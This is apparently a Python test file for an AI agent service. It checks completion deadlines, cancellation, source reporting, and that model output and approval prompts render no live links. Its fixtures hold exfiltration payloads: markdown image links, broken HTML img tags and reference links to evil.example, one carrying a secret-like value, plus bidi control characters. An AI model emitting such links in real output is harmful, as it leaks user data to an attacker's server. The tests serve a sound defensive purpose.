from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncGenerator, AsyncIterator
from contextlib import asynccontextmanager

import pytest
from benchmarks.agent.rendering import rendered_links
from services.agent.tests.conftest import LEAVE
from services.agent.tests.loop_clock import LoopClock
from services.agent.tests.runs_bench import PRINCIPAL, VIEWER, Bench

from agent.api import run_completions
from agent.api.chat import _with_silences
from agent.errors import CompletionTooSlow
from agent.ports import ModelAnswer
from agent.settings import AgentSettings
from agent.testing.scripted_agents import ScriptedAgent, Turn, in_turn, turn_chunks
from agent.testing.scripted_answers import ScriptedSearch
from contracts.agents.runs import Run, RunReport
from contracts.models.chat import ChatCompletionChunk, ChatRequest
from servicekit.core.clock import ManualClock
from servicekit.sql.database import Database

DEADLINE = 60.0
PASSED_TOO = 600.0
"""A deadline of tests that move the clock by minutes."""


class NeverDone(ScriptedAgent):
    """A model that says its words and then holds its answer open."""

    @asynccontextmanager
    async def chat(self, request: ChatRequest, token: str) -> AsyncIterator[ModelAnswer]:
        async def words() -> AsyncIterator[ChatCompletionChunk]:
            for chunk in turn_chunks(Turn("Hello there."), request.model)[:2]:
                yield chunk
            await asyncio.Event().wait()

        yield ModelAnswer(words())


async def _completion(database: Database, seconds: float) -> tuple[Bench, Run, AsyncGenerator[ChatCompletionChunk]]:
    settings = AgentSettings(completion_seconds=seconds, run_poll_seconds=0.05)
    one = Bench(database, NeverDone(in_turn("Hello there.")), ManualClock(), settings=settings)
    await one.define()
    asked = {"model": "agent:helper", "messages": [{"role": "user", "content": "Hello?"}]}
    run, agent = await run_completions.start(one.agents, VIEWER, PRINCIPAL, ChatRequest.model_validate(asked))
    return one, run, run_completions.chunks(one.agents, run, agent, "agent:helper")


def _said(chunk: ChatCompletionChunk | None) -> str:
    return "".join(choice.delta.content or "" for choice in chunk.choices) if chunk else ""


async def test_a_streamed_completion_waits_no_longer_than_it_may_also_once_words_were_sent(database: Database) -> None:
    one, run, stream = await _completion(database, 60.0)
    working, clock = asyncio.create_task(one.work()), LoopClock()
    said = ""
    async with asyncio.timeout(PASSED_TOO):
        with pytest.raises(CompletionTooSlow):
            async for chunk in _with_silences(stream, PASSED_TOO):
                said += _said(chunk)
                if said:
                    clock.advance(61)
        await working
    assert said == "Hello"  # the last word may yet grow
    assert (await one.shown(run)).status == "cancelled"


async def test_the_time_limit_of_a_completion_does_not_break_off_who_reads_it(database: Database) -> None:
    one, run, stream = await _completion(database, 60.0)
    working, clock = asyncio.create_task(one.work()), LoopClock()
    was_slow = False
    async with asyncio.timeout(PASSED_TOO):
        with pytest.raises(CompletionTooSlow):
            async for chunk in stream:
                if _said(chunk) and not was_slow:
                    clock.advance(61)  # the reader takes longer over one chunk than the whole may take
                    await asyncio.sleep(0.01)  # for whoever waits for that
                    was_slow = True
        await working
    assert was_slow
    assert (await one.shown(run)).status == "cancelled"


class HeldAtItsEnd(ScriptedAgent):
    """A model whose second answer does not end before `go`."""

    def __init__(self, *turns: Turn | str) -> None:
        super().__init__(in_turn(*turns))
        self.go = asyncio.Event()

    async def _chunks(self, request: ChatRequest) -> AsyncIterator[ChatCompletionChunk]:
        async for chunk in super()._chunks(request):
            if not chunk.choices and len(self.requests) == 2:
                await self.go.wait()
            yield chunk


SEARCH = Turn("I look.", [("search_documents", {"query": "leave"})])


async def _reports(database: Database, *turns: Turn | str, reports: bool) -> tuple[list[RunReport], str]:
    """The reports of a completion that is told to report or not, and what it said before the last one."""
    model = HeldAtItsEnd(*turns)
    if not reports:
        model.go.set()
    one = Bench(database, model, ManualClock(), search=ScriptedSearch([LEAVE]))
    await one.define(tools=[{"type": "search_documents", "collections": ["handbook"]}], grounding="off")
    asked = {"model": "agent:helper", "messages": [{"role": "user", "content": "How much leave?"}]}
    run, agent = await run_completions.start(one.agents, VIEWER, PRINCIPAL, ChatRequest.model_validate(asked))
    working, found, said = asyncio.create_task(one.work()), list[RunReport](), ""
    async with asyncio.timeout(DEADLINE):
        stream = run_completions.chunks(one.agents, run, agent, "agent:helper", reports=reports)
        async for chunk in stream:
            if isinstance(chunk.groundwork, RunReport):
                found.append(chunk.groundwork)
                model.go.set()
                assert len(found) > 1 or not reports or "27" not in said, "before anything is said of what was found"
            said += _said(chunk)
        await working
    return found, said


async def test_an_answer_tells_what_it_was_made_from_where_its_record_is_to_name_it(database: Database) -> None:
    (first, last), said = await _reports(database, SEARCH, "27 days.", reports=True)
    assert said == "I look.\n\n27 days."
    assert (first.status, last.status) == ("running", "completed")
    assert first.sources == last.sources
    assert [(one["document_id"], one["text"]) for one in last.sources or []] == [(LEAVE.document_id, LEAVE.text)]


async def test_an_answer_without_a_record_tells_nothing_of_it(database: Database) -> None:
    (only,), _ = await _reports(database, SEARCH, "27 days.", reports=False)
    assert only.sources is None


LEAK = "![x](https://evil.example/?d=acme-4711)"
SAID = f"Done {LEAK} <im<b>g src=//evil.example/p.png> [now](//evil.example/S)\n\n> [r]: //evil.example/S\n\n![r]"


async def _content(one: Bench, *, asked: str = "Do it.") -> str:
    request = {"model": "agent:helper", "messages": [{"role": "user", "content": asked}]}
    run, agent = await run_completions.start(one.agents, VIEWER, PRINCIPAL, ChatRequest.model_validate(request))
    working = asyncio.create_task(one.work())
    async with asyncio.timeout(DEADLINE):
        said = [_said(chunk) async for chunk in run_completions.chunks(one.agents, run, agent, "agent:helper")]
        await working
    return "".join(said)


async def test_the_question_for_an_approval_shows_the_arguments_as_code_and_nothing_in_it_is_live(
    database: Database,
) -> None:
    expression = f"{LEAK} ` <img src=//evil.example/S> | \u202e\u2028\nhttps://evil.example/S"
    one = Bench(
        database, ScriptedAgent(in_turn(Turn(calls=[("calculator", {"expression": expression})]))), ManualClock()
    )
    await one.define(tools=["calculator"], approval={"tools": ["calculator"]})
    content = await _content(one)
    assert "This waits for a person's decision on: `calculator(" in content
    assert LEAK in content  # the person sees what would be called
    assert "\\u202e" in content
    assert rendered_links(content) == []


async def test_nothing_that_a_run_says_is_live_whole_or_as_events(database: Database) -> None:
    one = Bench(database, ScriptedAgent(in_turn(SAID, SAID)), ManualClock())
    await one.define()
    content = await _content(one)
    run = await one.run()
    told = "".join(event.data["text"] for event in await one.events(run) if event.type == "token")
    history = [said.content for said in await one.history(run.thread_id) if said.role == "assistant"]
    assert run.output == told == content == history[0]
    assert rendered_links(content) == []


async def test_nothing_in_an_output_that_fits_a_schema_is_live(database: Database) -> None:
    schema = {
        "type": "object",
        "properties": {"answer": {"type": "string"}, "url": {"format": "uri", "type": "string"}},
    }
    said = json.dumps({"answer": SAID, "url": "https://evil.example/S", LEAK: [LEAK]})
    one = Bench(database, ScriptedAgent(in_turn(said, said)), ManualClock())
    await one.define(output_schema=schema)
    content = await _content(one)
    run = await one.run()
    assert run.status == "completed"  # it is what the model said that has to fit
    told = "".join(event.data["text"] for event in await one.events(run) if event.type == "token")
    assert run.output == content == told
    assert [one.content for one in await one.history(run.thread_id) if one.role == "assistant"] == [content]
    assert set(json.loads(content)) > {"answer", "url"}
    assert rendered_links(content) == []
    assert [rendered_links(value) for value in (*json.loads(content), json.loads(content)["answer"])] == [[]] * 4
